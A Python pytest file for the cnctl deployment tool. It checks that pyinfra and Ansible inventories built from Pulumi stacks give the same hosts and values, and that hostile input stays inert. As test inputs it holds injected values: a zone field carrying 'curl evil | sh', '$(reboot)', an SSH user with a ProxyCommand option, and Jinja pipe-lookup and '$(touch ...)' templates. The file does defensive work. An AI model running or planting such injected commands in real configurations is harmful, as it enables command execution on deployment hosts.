"""Inventories from the stack (cnctl/inventory.py, hosts/*.py, `cnctl inventory`): the right hosts, how to
reach them, and the same cn_* values whichever engine reads them. Nothing here connects to a host:
pyinfra's `debug-inventory` and `ansible-inventory --list` read the inventories as each engine does."""

from __future__ import annotations

import ast
import json
import os
import runpy
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from cnctl.cli.main import app
from cnctl.config import load_stack
from cnctl.inventory import (
    InventoryHost,
    InventoryProblem,
    Ssh,
    ansible_inventory,
    ansible_inventory_text,
    ansible_vars,
    chosen_stack,
    cloud_hosts,
    cloud_vms,
    fleet_hosts,
    pyinfra_groups,
    pyinfra_module_text,
    ssh_config_text,
    stack_outputs,
)
from cnctl.paths import REPO_ROOT
from tests.unit.unsafe_yaml import plain_strings, unsafe_load

BIN = Path(sys.executable).parent
OUTPUTS = Path(__file__).parent / "samples" / "dev-outputs.json"  # `pulumi stack output --json -s dev`, recorded
UNSAFE_JSON = "__ansible_unsafe"  # how ansible-inventory --list shows an `!unsafe` string
IAP = "gcloud compute start-iap-tunnel {vm} 22 --listen-on-stdin --project=my-circularnet-dev --zone={zone} --verbosity=warning"


@pytest.fixture(autouse=True)
def _private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Generated ssh_configs and inventories go to a cache of the test's own."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    for name in ("CNCTL_STACK", "CNCTL_OUTPUTS", "CNCTL_SSH_USER", "CNCTL_FLEET_FILE"):
        monkeypatch.delenv(name, raising=False)


# --- which stack ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "env", "stack"),
    [
        ([], {}, "local"),
        ([], {"CNCTL_STACK": "prod"}, "prod"),
        (["hosts/edge.py", "deploy.py", "--data", "stack=dev"], {"CNCTL_STACK": "prod"}, "dev"),
        (["--data=stack=dev", "hosts/edge.py", "deploy.py"], {}, "dev"),
        (["--data", "other=1", "hosts/edge.py"], {}, "local"),
    ],
)
def test_the_stack_comes_from_data_then_environment_then_local(argv: list[str], env: dict[str, str], stack: str) -> None:
    assert chosen_stack(argv, env) == stack


# --- fleets --------------------------------------------------------------------------------------


def _cn(data: dict[str, Any]) -> dict[str, Any]:
    return {k: v for k, v in data.items() if k.startswith("cn_")}


def test_a_real_fleet_is_reached_at_its_entries_addresses() -> None:
    cfg = load_stack("prod")
    hosts = fleet_hosts(cfg)
    assert [h.name for h in hosts] == [e.name for e in cfg.fleets.edge] + [s.name for s in cfg.fleets.servers]
    groups = pyinfra_groups(hosts)
    name, data = groups["edge"][0]
    entry = cfg.fleets.edge[0]
    assert (name, data["ssh_hostname"], data["ssh_user"]) == (entry.name, entry.address, entry.ssh_user)
    assert data["cn_group"] == "edge" and data["cn_jetpack"] == entry.jetpack
    assert "ssh_key" not in data  # the user's own SSH setup (agent, ~/.ssh/config) decides


def test_an_ssh_port_other_than_22_reaches_both_engines(tmp_path: Path) -> None:
    document = yaml.safe_load((REPO_ROOT / "stacks" / "Pulumi.prod.yaml").read_text())
    document["config"]["circularnet:fleets"]["edge"][0]["sshPort"] = 2222
    path = tmp_path / "Pulumi.prod.yaml"
    path.write_text(yaml.safe_dump(document))
    host = fleet_hosts(load_stack(str(path)))[0]
    assert pyinfra_groups([host])["edge"][0][1]["ssh_port"] == 2222
    assert ansible_inventory([host])["all"]["children"]["edge"]["hosts"][host.name]["ansible_port"] == 2222


def test_both_engines_read_the_same_values_for_every_host(tmp_path: Path) -> None:
    """pyinfra's own inventory loader (debug-inventory) and ansible-inventory --list, on the inventories of
    `cnctl inventory`, give every host the same cn_* values."""
    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", "CNCTL_STACK": "prod",
           "ANSIBLE_HOME": str(tmp_path / "ansible"), "ANSIBLE_LOCAL_TEMP": str(tmp_path / "atmp")}
    inv = tmp_path / "prod.yml"
    assert CliRunner().invoke(app, ["inventory", "--stack", "prod", "--engine", "ansible", "--output", str(inv)]).exit_code == 0
    listed = json.loads(subprocess.run([str(BIN / "ansible-inventory"), "-i", str(inv), "--list"], env=env, check=True,
                                       capture_output=True, text=True, timeout=120).stdout)
    ansible_vars = {name: _cn(literal(hv)) for name, hv in listed["_meta"]["hostvars"].items()}
    pyinfra_vars = _pyinfra_debug_inventory("hosts/fleet.py", env)
    cfg = load_stack("prod")
    assert set(pyinfra_vars) == set(ansible_vars) == {h.name for h in [*cfg.fleets.edge, *cfg.fleets.servers]}
    for name, values in pyinfra_vars.items():
        assert values == ansible_vars[name], name
        assert values["cn_host"] == name and values["cn_stack"] == "prod"
    assert set(listed["edge"]["hosts"]) == {e.name for e in cfg.fleets.edge}


def literal(value: Any) -> Any:
    """`ansible-inventory --list`'s JSON with each `{"__ansible_unsafe": text}` (an `!unsafe` string) as its text."""
    if isinstance(value, dict):
        return value[UNSAFE_JSON] if set(value) == {UNSAFE_JSON} else {k: literal(v) for k, v in value.items()}
    if isinstance(value, list):
        return [literal(v) for v in value]
    return value


def _pyinfra_debug_inventory(inventory: str, env: dict[str, str]) -> dict[str, dict[str, Any]]:
    """`pyinfra <inventory> debug-inventory`: each host's data, as pyinfra loaded it (no connection)."""
    run = subprocess.run([str(BIN / "pyinfra"), inventory, "debug-inventory"], cwd=REPO_ROOT, env=env, check=True,
                         capture_output=True, text=True, timeout=120)
    out = run.stdout + run.stderr  # pyinfra logs the hosts on stderr
    hosts: dict[str, dict[str, Any]] = {}
    for block in out.split("\n[")[1:]:
        name = block.split("]", 1)[0]
        data = block.split("--> Data:", 1)[1]
        hosts[name] = _cn(json.loads(data[: data.rindex("}") + 1]))
    return hosts


@pytest.mark.parametrize(
    ("module", "env", "message"),
    [
        ("hosts/edge.py", {"CNCTL_STACK": "staging"}, "stack staging: stacks/Pulumi.staging.yaml: stack: 'staging' has no file"),
        ("hosts/servers.py", {"CNCTL_STACK": "local"}, "stack local: no fleet file "),
        ("hosts/fleet.py", {}, "the sandbox is not up; run `cnctl sandbox up` or `make demo`"),
        ("hosts/cloud.py", {"CNCTL_STACK": "dev", "CNCTL_OUTPUTS": "/nonexistent/outputs.json"}, "CNCTL_OUTPUTS=/nonexistent"),
        ("hosts/cloud.py", {"CNCTL_STACK": "local"}, "stack local has no cloud GPU VMs"),
    ],
)
def test_an_inventory_module_says_what_is_wrong_in_one_line_and_exits_2(
    module: str, env: dict[str, str], message: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("CNCTL_FLEET_FILE", str(tmp_path / "none" / "fleet.json"))
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setattr(sys, "argv", ["pyinfra", module, "deploy.py"])
    with pytest.raises(SystemExit) as raised:
        runpy.run_path(str(REPO_ROOT / module))
    assert raised.value.code == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and err.count("\n") == 1 and message in err, err


def test_an_invalid_stack_names_its_fields_in_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    document = yaml.safe_load((REPO_ROOT / "stacks" / "Pulumi.prod.yaml").read_text())
    document["config"]["circularnet:fleets"]["edge"][0]["jetpack"] = "4.6"
    document["config"]["circularnet:fleets"]["servers"] = [{"name": "Bad Name", "address": "10.0.0.1"}]
    path = tmp_path / "Pulumi.prod.yaml"
    path.write_text(yaml.safe_dump(document))
    monkeypatch.setattr(sys, "argv", ["pyinfra", "hosts/edge.py", "deploy.py", "--data", f"stack={path}"])
    with pytest.raises(SystemExit) as raised:
        runpy.run_path(str(REPO_ROOT / "hosts" / "edge.py"))
    err = capsys.readouterr().err
    assert raised.value.code == 2 and err.count("\n") == 1
    assert "fleets.servers[0].name" in err


# --- cloud VMs -----------------------------------------------------------------------------------


def test_the_recorded_outputs_give_the_vms_their_users_and_iap_proxy_commands(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CNCTL_OUTPUTS", str(OUTPUTS))
    monkeypatch.setenv("CNCTL_SSH_USER", "deploy_example_com")
    cfg = load_stack("dev")
    outputs, source = stack_outputs("dev")
    hosts = cloud_hosts(cfg, cloud_vms(cfg, outputs, source))
    assert [(h.name, h.group, h.ssh.user) for h in hosts] == [
        ("cn-dev-gpu-0-81b5", "cloud", "deploy_example_com"), ("cn-dev-gpu-1-81b5", "cloud", "deploy_example_com")]
    assert [h.ssh.proxy_command for h in hosts] == [
        IAP.format(vm="cn-dev-gpu-0-81b5", zone="us-central1-a"), IAP.format(vm="cn-dev-gpu-1-81b5", zone="us-central1-b")]
    assert hosts[1].vars["cn_gcp_zone"] == "us-central1-b" and hosts[1].vars["cn_driver_source"] == "image"
    # pyinfra: an ssh_config block per VM; Ansible: the same ProxyCommand in ansible_ssh_common_args
    config = ssh_config_text(hosts)
    assert f"Host cn-dev-gpu-0-81b5\n  HostName cn-dev-gpu-0-81b5\n  User deploy_example_com\n  ProxyCommand " \
           f"{IAP.format(vm='cn-dev-gpu-0-81b5', zone='us-central1-a')}\n" in config
    vm = ansible_inventory(hosts)["all"]["children"]["cloud"]["hosts"]["cn-dev-gpu-1-81b5"]
    assert vm["ansible_user"] == "deploy_example_com"
    assert shlex.split(vm["ansible_ssh_common_args"]) == [  # Ansible splits it so
        "-o", f"ProxyCommand={IAP.format(vm='cn-dev-gpu-1-81b5', zone='us-central1-b')}"]


def test_hosts_cloud_py_as_pyinfra_loads_it(tmp_path: Path) -> None:
    env = {**os.environ, "CNCTL_STACK": "dev", "CNCTL_OUTPUTS": str(OUTPUTS), "CNCTL_SSH_USER": "deploy_example_com"}
    run = subprocess.run([str(BIN / "pyinfra"), "hosts/cloud.py", "debug-inventory"], cwd=REPO_ROOT, env=env, check=True,
                         capture_output=True, text=True, timeout=120)
    out = run.stdout + run.stderr
    config = tmp_path / "cache" / "cnctl" / "ssh" / "dev.config"
    assert f'"ssh_config_file": "{config}"' in out and "--> Groups: cloud" in out
    assert config.stat().st_mode & 0o077 == 0
    assert IAP.format(vm="cn-dev-gpu-1-81b5", zone="us-central1-b") in config.read_text()


def test_an_ssh_user_output_wins_over_the_environment() -> None:
    outputs = {**json.loads(OUTPUTS.read_text()), "sshUser": "sa_1234567890"}
    vms = cloud_vms(load_stack("dev"), outputs, "test", environ={"CNCTL_SSH_USER": "someone"})
    assert {vm.ssh_user for vm in vms} == {"sa_1234567890"}


def test_without_any_os_login_user_the_fix_is_named() -> None:
    with pytest.raises(InventoryProblem, match="CNCTL_SSH_USER=\\$\\(gcloud compute os-login describe-profile"):
        cloud_vms(load_stack("dev"), json.loads(OUTPUTS.read_text()), "test", environ={}, os_login_user=lambda: None)


def _bad(change: dict[str, Any] | None = None, vm: dict[str, Any] | None = None) -> dict[str, Any]:
    outputs = json.loads(OUTPUTS.read_text())
    outputs["vms"][0].update(vm or {})
    outputs.update(change or {})
    return outputs


@pytest.mark.parametrize(
    ("outputs", "message"),
    [
        (_bad({"project": "someone-else-123"}), "the outputs are of project someone-else-123, but stack dev deploys to my-circularnet-dev"),
        (_bad({"vms": None}), "output vms is missing or not a list"),
        (_bad(vm={"zone": "us-central1-a; curl evil | sh"}), "output vms[0].zone: 'us-central1-a; curl evil | sh' is not a GCP zone"),
        (_bad(vm={"name": "$(reboot)"}), "output vms[0].name: '$(reboot)' is not a VM name"),
        (_bad(vm={"internalIp": None}), "output vms[0].internalIp: None is not an IPv4 address"),
        (_bad(vm={"sshUser": "root -o ProxyCommand=x"}), "output vms[0].sshUser"),
        (_bad({"project": None}), "output project: None is not a GCP project id"),
    ],
)
def test_bad_outputs_are_named_at_the_output(outputs: dict[str, Any], message: str) -> None:
    with pytest.raises(InventoryProblem) as raised:
        cloud_vms(load_stack("dev"), outputs, "CNCTL_OUTPUTS=x.json", environ={"CNCTL_SSH_USER": "u"})
    assert message in str(raised.value)


def test_an_outputs_file_that_is_not_json_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bad = tmp_path / "outputs.json"
    bad.write_text("Current stack outputs (3):\n")
    monkeypatch.setenv("CNCTL_OUTPUTS", str(bad))
    with pytest.raises(InventoryProblem, match="not JSON .*`pulumi stack output --json -s dev > "):
        stack_outputs("dev")


def test_without_pulumi_or_an_outputs_file_the_fix_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(InventoryProblem, match="pulumi CLI is not on PATH.*CNCTL_OUTPUTS=outputs.json"):
        stack_outputs("dev")


# --- cnctl inventory -------------------------------------------------------------------------------


def test_cnctl_inventory_writes_a_pyinfra_module_with_the_same_hosts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("CNCTL_OUTPUTS", str(OUTPUTS))
    monkeypatch.setenv("CNCTL_SSH_USER", "deploy_example_com")
    out = tmp_path / "dev_inventory.py"
    result = CliRunner().invoke(app, ["inventory", "--stack", "dev", "--engine", "pyinfra", "-g", "edge", "-g", "cloud",
                                      "--output", str(out)])
    assert result.exit_code == 0, result.output
    module = runpy.run_path(str(out))
    assert [name for name, _ in module["edge"]] == ["belt-1-orin"]
    assert [name for name, _ in module["cloud"]] == ["cn-dev-gpu-0-81b5", "cn-dev-gpu-1-81b5"]
    assert "servers" not in module
    config = Path(module["cloud"][0][1]["ssh_config_file"])
    assert config == out.with_name("dev_inventory.py.ssh_config").resolve() and "ProxyCommand gcloud" in config.read_text()


def test_cnctl_inventory_prints_ansible_yaml_by_default() -> None:
    result = CliRunner().invoke(app, ["inventory", "--stack", "prod"])
    assert result.exit_code == 0, result.output
    inventory = unsafe_load(result.stdout)
    assert plain_strings(result.stdout) == []  # every value is data to Ansible
    hosts = inventory["all"]["children"]["edge"]["hosts"]
    assert hosts["plant-a-belt-1"]["ansible_host"] == "10.40.1.21" and hosts["plant-a-belt-1"]["cn_jetpack"] == "6.2"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--engine", "chef"], "--engine chef: unknown engine; known: pyinfra, ansible"),
        (["--group", "gpus"], "--group gpus: unknown group; known: edge, servers, cloud"),
        (["--stack", "staging"], "has no file Pulumi.staging.yaml in"),
        (["--stack", "dev", "--group", "cloud"], "the pulumi CLI is not on PATH"),
    ],
)
def test_cnctl_inventory_refuses_bad_input_with_exit_2(args: list[str], message: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(BIN))  # no pulumi here
    result = CliRunner().invoke(app, ["inventory", *args])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert message in " ".join(result.output.split())


# --- cnctl deploy's target ---------------------------------------------------------------------------


def test_a_real_stack_is_a_deploy_target_for_both_engines(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from cnctl.engines.target import PYINFRA_INVENTORY, for_stack
    from cnctl.hostvars import stack_vars

    monkeypatch.chdir(REPO_ROOT / "stacks")
    cfg = load_stack("prod")
    target = for_stack(cfg, limit="edge", stack="Pulumi.prod.yaml")  # a path: pyinfra runs elsewhere, so made absolute
    assert target.hosts == tuple(e.name for e in cfg.fleets.edge) and target.limit == "edge"
    assert target.env == {"CNCTL_STACK": str(REPO_ROOT / "stacks" / "Pulumi.prod.yaml")}
    assert for_stack(cfg).env == {"CNCTL_STACK": "prod"} and for_stack(cfg).hosts == tuple(h.name for h in fleet_hosts(cfg))
    assert target.extravars == stack_vars(cfg) and target.pyinfra_inventory == PYINFRA_INVENTORY
    inventory = unsafe_load(target.ansible_inventory.read_text())
    assert target.ansible_inventory.is_relative_to(tmp_path / "cache") and target.ansible_inventory.stat().st_mode & 0o077 == 0
    hosts = inventory["all"]["children"]["servers"]["hosts"]
    assert {name: _cn(v) for name, v in hosts.items()} == {
        name: _cn(data) for name, data in pyinfra_groups(fleet_hosts(cfg))["servers"]}


# --- every stack value is data to the engines (issue 20) -------------------------------------------------------

# Values no schema should let through, and that must stay data even if one did: Jinja, a pipe lookup, shell.
TEMPLATE = "{{ lookup('pipe', 'touch %s') }}"
HOSTILE = ["{% if true %}x{% endif %}", "a\nb: c", "'\"$(touch /tmp/cnctl-x)`id`", "#{not a comment}", "- item", "null",
           "\x1b[31mred"]


def _hostile_host(pwned: Path, name: str = "h1", **ssh: Any) -> InventoryHost:
    """A host whose variables, nested ones too, hold a template that would touch `pwned` if Ansible evaluated it."""
    template = TEMPLATE % pwned
    data = {"cn_camera": {"url": template, "prefix": HOSTILE}, "cn_model_name": template, "cn_inference_http_port": 8000,
            "cn_reboot": False, "cn_nvpmodel": None, **{f"cn_hostile_{i}": value for i, value in enumerate(HOSTILE)}}
    return InventoryHost(name, "edge", Ssh(**{"address": "fe80::1%eth0", "user": "cn", **ssh}), data)


def test_every_string_of_the_ansible_inventory_is_unsafe_and_every_other_value_keeps_its_type(tmp_path: Path) -> None:
    host = _hostile_host(tmp_path / "pwned", proxy_command="gcloud compute start-iap-tunnel vm 22", key="/k",
                         known_hosts="/kh dir/known_hosts", strict_host_key_checking="yes")
    text = ansible_inventory_text("local\n# injected: {{ 7*7 }}", [host])
    assert plain_strings(text) == []
    assert unsafe_load(text)["all"]["children"]["edge"]["hosts"]["h1"] == {**ansible_vars(host)}
    assert text.splitlines()[0].startswith("# Ansible inventory of stack local\\n# injected")  # one comment line
    listed = unsafe_load(text)["all"]["children"]["edge"]["hosts"]["h1"]
    assert (listed["cn_inference_http_port"], listed["cn_reboot"], listed["cn_nvpmodel"]) == (8000, False, None)
    assert shlex.split(listed["ansible_ssh_common_args"]) == [
        "-o", "UserKnownHostsFile=/kh dir/known_hosts", "-o", "GlobalKnownHostsFile=/dev/null", "-o",
        "StrictHostKeyChecking=yes", "-o", "IdentitiesOnly=yes", "-o", "ProxyCommand=gcloud compute start-iap-tunnel vm 22"]


def _ansible_env(tmp_path: Path) -> dict[str, str]:
    return {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", "ANSIBLE_HOME": str(tmp_path / "ansible"),
            "ANSIBLE_LOCAL_TEMP": str(tmp_path / "atmp"), "ANSIBLE_NOCOLOR": "1", "ANSIBLE_HOST_KEY_CHECKING": "False"}


def test_ansible_inventory_lists_a_template_literally_and_runs_nothing(tmp_path: Path) -> None:
    pwned = tmp_path / "pwned"
    inventory = tmp_path / "inventory.yml"
    inventory.write_text(ansible_inventory_text("local", [_hostile_host(pwned)]))
    listed = json.loads(subprocess.run([str(BIN / "ansible-inventory"), "-i", str(inventory), "--list"],
                                       env=_ansible_env(tmp_path), check=True, capture_output=True, text=True,
                                       timeout=120).stdout)
    hostvars = listed["_meta"]["hostvars"]["h1"]
    assert hostvars["cn_model_name"] == {UNSAFE_JSON: TEMPLATE % pwned}  # shown as it is, marked as data
    assert literal(hostvars)["cn_camera"] == {"url": TEMPLATE % pwned, "prefix": HOSTILE}
    assert literal(hostvars)["ansible_host"] == "fe80::1%eth0"
    assert not pwned.exists()


def test_a_role_variable_holding_a_template_renders_literally_from_the_inventory_and_the_extra_vars(tmp_path: Path) -> None:
    """A local play (connection local) prints and writes the hostile values from both places cnctl gives Ansible
    values: the inventory and the run's extra-vars file (cnctl/engines/ansible.py). They arrive byte for byte."""
    from cnctl.engines import ansible as engine
    from cnctl.engines.target import Target

    pwned = tmp_path / "pwned"
    host = _hostile_host(pwned)
    host.vars.update(ansible_connection="local", ansible_python_interpreter=sys.executable)
    inventory = tmp_path / "inventory.yml"
    inventory.write_text(ansible_inventory_text("local", [host]))
    target = Target("local", Path("/fleet.py"), inventory, ("h1",), extravars={"cn_stack": TEMPLATE % (pwned.with_name("x1"))},
                    overrides={"cn_model_action": TEMPLATE % (pwned.with_name("x2")), "cn_list": HOSTILE})
    extra = engine.write_extravars(target, tmp_path / "run")
    assert plain_strings(extra.read_text()) == []
    out = tmp_path / "out"
    play = [{"hosts": "all", "gather_facts": False, "tasks": [
        {"ansible.builtin.debug": {"msg": "{{ cn_model_name }}"}},
        {"ansible.builtin.copy": {"dest": str(out), "mode": "0600", "content": (
            "{{ cn_model_name }}|{{ cn_camera.url }}|{{ cn_camera.prefix | to_json }}|{{ cn_stack }}|"
            "{{ cn_model_action }}|{{ cn_list | to_json }}|{{ cn_hostile_0 }}")}}]}]
    (tmp_path / "play.yml").write_text(yaml.safe_dump(play))
    done = subprocess.run([str(BIN / "ansible-playbook"), "-i", str(inventory), "-e", f"@{extra}", str(tmp_path / "play.yml")],
                          env=_ansible_env(tmp_path), cwd=tmp_path, capture_output=True, text=True, timeout=180, check=False)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert json.dumps(TEMPLATE % pwned)[1:-1] in done.stdout  # the debug message is the template, as written
    assert out.read_text() == "|".join([TEMPLATE % pwned, TEMPLATE % pwned, json.dumps(HOSTILE), TEMPLATE % pwned.with_name("x1"),
                                        TEMPLATE % pwned.with_name("x2"), json.dumps(HOSTILE), HOSTILE[0]])
    assert not any(p.exists() for p in (pwned, pwned.with_name("x1"), pwned.with_name("x2")))


def test_ansible_reaches_a_host_through_its_proxy_command_word_for_word(tmp_path: Path) -> None:
    """The connection settings stay data too and still work: Ansible's ssh runs the ProxyCommand cnctl wrote, its
    arguments arriving as written (spaces, quotes, `$(...)`), through an `!unsafe` ansible_ssh_common_args."""
    record, pwned = tmp_path / "proxy-argv.json", tmp_path / "pwned"
    proxy = tmp_path / "proxy"
    proxy.write_text(f"#!{sys.executable}\nimport json, sys\nopen({str(record)!r}, 'w').write(json.dumps(sys.argv[1:]))\n"
                     "sys.exit(1)\n")
    proxy.chmod(0o755)
    words = ["vm 1", "it's", f"$(touch {pwned})", "`id`", "{{ 7*7 }}"]
    host = _hostile_host(pwned, address="10.255.0.1", proxy_command=shlex.join([str(proxy), *words]),
                         known_hosts=str(tmp_path / "known hosts"), strict_host_key_checking="yes")
    inventory = tmp_path / "inventory.yml"
    inventory.write_text(ansible_inventory_text("dev", [host]))
    done = subprocess.run([str(BIN / "ansible"), "-i", str(inventory), "h1", "-m", "ansible.builtin.ping",
                           "-e", "ansible_python_interpreter=/usr/bin/python3"], env=_ansible_env(tmp_path),
                          cwd=tmp_path, capture_output=True, text=True, timeout=120, check=False)
    assert "UNREACHABLE" in done.stdout, done.stdout + done.stderr  # the proxy said no, after it ran
    assert json.loads(record.read_text()) == words and not pwned.exists()


def test_the_pyinfra_module_holds_only_literals_whatever_the_values(tmp_path: Path) -> None:
    """`cnctl inventory --engine pyinfra` writes Python: the stack's name in a comment (escaped, one line), each group
    a literal that `ast.literal_eval` reads back to the same data, nothing else in the module."""
    host = _hostile_host(tmp_path / "pwned", name='x"""\nimport os')
    host.vars["cn_quotes"] = "'''\"\"\"\\\n\r\x00"
    groups = pyinfra_groups([host])
    text = pyinfra_module_text('dev"""\nimport os; os.system("id")\n#', groups)
    module = ast.parse(text)
    assert all(isinstance(node, ast.Assign) for node in module.body), ast.dump(module)
    found = {node.targets[0].id: ast.literal_eval(node.value) for node in module.body  # type: ignore[attr-defined]
             if isinstance(node, ast.Assign)}
    assert found == groups and found["edge"][0][0] == 'x"""\nimport os'
    assert text.splitlines()[0].startswith('# pyinfra inventory of stack dev"""\\n')
